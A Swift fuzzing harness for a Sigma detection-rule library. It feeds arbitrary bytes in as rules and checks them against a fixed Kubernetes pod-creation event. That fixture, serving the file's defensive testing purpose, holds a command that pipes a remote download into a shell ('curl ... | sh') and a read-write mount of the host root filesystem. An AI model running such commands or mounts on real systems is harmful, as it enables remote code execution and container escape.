import Deployments
import Judge
import Sigma

/// The Sigma language: any text is rules or diagnostics with places; rules that are read compile or say why not, and
/// then match and correlate without harm.
enum SigmaFuzzing {
    private static let deployment: ContainerDeployment = {
        var deployment = ContainerDeployment(
            event: .init(action: .podCreate, dataset: .kubernetesAudit),
            route: .kubernetesAPI
        )
        deployment.event.timestamp = Timestamp(microseconds: 1_764_000_000_000_000)
        deployment.actor.userName = "alice"
        deployment.process.args = ["sh", "-c", "curl http://198.51.100.7/x | sh"]
        deployment.host.mounts = [.init(source: HostPath("/"), target: "/host", isReadOnly: false)]
        return deployment
    }()

    static func run(_ bytes: UnsafeRawBufferPointer) {
        var library = RuleLibrary()
        library.add(String(decoding: bytes, as: UTF8.self), file: "fuzz.yml")
        for diagnostic in library.diagnostics + library.misnamed() { precondition(!diagnostic.description.isEmpty) }
        do throws(RuleSetError) {
            let bench = try Judge.Bench(correlating: library)
            let judge = Judge(bench)
            var correlator = bench.correlations.map { Correlator($0) }
            for _ in 0..<3 {
                judge.judge(DeploymentEvent(deployment)) { finding in
                    precondition(!finding.id.isEmpty)
                    _ = correlator?.take(finding) { precondition(!$0.id.isEmpty) }
                }
            }
            correlator?.finish { precondition(!$0.id.isEmpty) }
        } catch {
            precondition(!"\(error)".isEmpty)
        }
    }
}
